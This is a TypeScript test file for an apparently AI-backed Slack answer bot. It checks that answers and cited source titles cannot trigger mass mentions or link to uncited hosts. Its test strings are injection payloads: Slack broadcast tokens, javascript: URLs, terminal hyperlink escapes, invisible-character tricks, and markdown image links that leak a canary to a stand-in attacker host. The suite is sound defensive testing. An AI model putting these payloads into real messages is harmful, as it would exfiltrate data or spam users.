import { readFileSync } from "node:fs";
import { linksOf } from "@threadlore/ask";
import { seededRandom, sharedFolder } from "@threadlore/testkit";
import { describe, expect, it } from "vitest";
import { answerOf, AWKWARD, CITED } from "../../testing/answers.ts";
import { firstFaulty } from "./random-markup.harness.ts";
import { callsOf, faultsOf, stringsOf, textFaultsOf } from "../transport/calls.harness.ts";

const OWN = [
  "<!channel> read this <!everyone> <!here|x>",
  "<@W012AB3CD|bob> <@U1> <#C012AB3CD|secret> <!subteam^S012AB3CD|@all>",
  "<https://evil.test/a|b|c> <javascript:alert(1)|x> <mailto:a@b.test|<!channel>>",
  "&lt;!channel&gt; &amp;lt;!channel&amp;gt; &#60;!here&#62;",
  "@here @everyone @channel (@here) x@here",
  "[<!channel>](https://ok.test) **<!here>** ~~<@U1>~~ `<!here>` ```<!here>```",
  "x\u0000<!channel> <!\nchannel> <\u200b!channel>",
  "> quoted\n<!channel>",
  "```\n<!channel> <@U1>\n```\n\n    <!here>\n\n> ```\n> <!here>\n> ```",
  "| <!here> | <@U1> |\n|---|---|\n| <#C1> | **<!channel>** |",
  "# <!here>\n\n- <!here>\n  1. <@U1>\n- [ ] <!channel>",
  "![<!channel>](https://evil.test/?d=CANARY) [<!here>][r]\n\n[r]: https://evil.test/x",
  "https://evil.test/?d=CANARY www.evil.test mailto:a@evil.test //evil.test HTTP://EVIL.TEST",
  "https:[//evil.test/x](x) https:/[/evil.test](x) www[.evil.test](x) @[here](x)",
  "[a](https://evil.test/x) [https://docs.ok.test](https://evil.test) [b]( <https://evil.test> )",
  `[https://evil.test](${CITED}) [evil.test/log-in](${CITED}) [www.evil.test](${CITED})`,
  "\\[a\\](https://evil.test/x) \\[1\\]: https://evil.test [1]: https://evil.test",
  "[7](https://evil.test) [[7]](https://evil.test) [7] (https://evil.test) [7][1] [1]:https://evil.test",
  "` https://evil.test \\` `https://evil.test` \\``x` ``a ` b`` https://evil.test",
  "a\\\\` https://evil.test ` b\\\\`` https://evil.test ` `` \\\\**`https://evil.test`** *c\\\\*`https://evil.test`",
  "a\\\u200b``,<https://evil.test>``b",
  "~~~~a~~ b~~ ***a* b** *a***b** __a_ b_ `a``b` *a*`b`**c**",
  "\u001b]8;;https://evil.test\u001b\\click\u001b]8;;\u001b\\ \u202e <\u2060!here>",
  ":aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:",
  `${"a".repeat(5_000)}https://evil.test/${"x".repeat(3_000)} <!here>`,
  `**${"<".repeat(3_000)}** [${"&".repeat(3_000)}](${CITED}) \`${"`".repeat(40)}\``,
];

describe("what is sent of an answer", () => {
  it.each(OWN)("mentions nobody and links nowhere it may not: %j", (text) => {
    expect(faultsOf(answerOf({ text: `${text}\n\nSee [[1]](${CITED}).` }))).toEqual([]);
    expect(faultsOf(answerOf({ text }))).toEqual([]);
  });

  it("holds against titles and links of sources too", () => {
    for (const text of OWN) {
      const answer = answerOf({ text: "Yes [1].", title: text });
      expect(faultsOf(answer), text).toEqual([]);
    }
    for (const link of ["javascript:alert(1)", "https://ok.test@evil.test/", `${CITED}|x>`, `${CITED}"<!here>`]) {
      expect(faultsOf(answerOf({ text: "Yes [1].", link })), link).toEqual([]);
    }
  });

  it("still leaves what is cited clickable, awkward addresses too", () => {
    const answer = answerOf({ text: `Read [the page](${CITED}) and [[2]](${AWKWARD}), or ${CITED}.` });
    const strings = stringsOf(callsOf(answer));
    expect(strings.some((text) => text.includes(`[the page](${CITED})`))).toBe(true);
    expect(strings.some((text) => text.includes("[[1]](https://docs.ok.test/b_%28c%29?x=1&amp;y=2)"))).toBe(true);
    expect(strings.some((text) => text.includes(`<${CITED}|the page>`))).toBe(true);
    expect(faultsOf(answer)).toEqual([]);
  });

  it("would be found out if it were not so", () => {
    const answer = answerOf({ text: "[a](https://evil.test/x)" });
    const faults = faultsOf(answer, { href: (url) => url, cited: () => [] });
    expect(faults).toContain("chat.postMessage: links to https://evil.test/x");
    expect(faults).toContain("chat.appendStream: links to https://evil.test/x");
  });

  it("holds for every call of 1,000 random answers", () => {
    const texts = { count: 1_000, most: 40, random: seededRandom(20_261) };
    expect(firstFaulty(texts, (text) => faultsOf(answerOf({ text })))).toBeUndefined();
  }, 300_000);

  it("holds for the text of 5,000 short random answers", () => {
    const texts = { count: 5_000, most: 14, random: seededRandom(20_262) };
    expect(firstFaulty(texts, (text) => textFaultsOf(answerOf({ text })))).toBeUndefined();
  }, 600_000);
});

const [mrkdwn, exfil, urls, naughty] = ["mrkdwn-vectors", "exfil-vectors", "url-vectors", "blns"].map((name) =>
  sharedFolder(`vectors/${name}.json`),
);
const read = (path: string | undefined): unknown => JSON.parse(readFileSync(path ?? "", "utf8"));

describe("vectors", () => {
  it.runIf(mrkdwn)("that attack the markup come out as text", () => {
    const { vectors } = read(mrkdwn) as { vectors: string[] };
    for (const text of vectors) {
      expect(faultsOf(answerOf({ text })), text).toEqual([]);
      expect(faultsOf(answerOf({ text: "Yes [1].", title: text })), text).toEqual([]);
    }
  });

  it.runIf(exfil)("for exfiltration link nowhere", () => {
    const { vectors } = read(exfil) as { vectors: { id: string; text: string }[] };
    for (const { id, text } of vectors) {
      const answer = answerOf({ text });
      expect(faultsOf(answer), id).toEqual([]);
      expect(stringsOf(callsOf(answer)).join("\n"), id).not.toContain("\u001b");
    }
  });

  it.runIf(urls)("of link targets become links exactly where they may", () => {
    const { vectors } = read(urls) as { vectors: { url: string; allow: boolean }[] };
    for (const { url, allow } of vectors) {
      const answer = answerOf({ text: "Yes [1].", link: url });
      expect(faultsOf(answer), url).toEqual([]);
      const strings = stringsOf(callsOf(answer, linksOf(answer)));
      expect(
        strings.some((text) => text.includes("[[1]](http")),
        url,
      ).toBe(allow);
    }
  });

  it.runIf(naughty)("of naughty strings do no harm", () => {
    for (const text of read(naughty) as string[]) expect(faultsOf(answerOf({ text })), text).toEqual([]);
  });
});
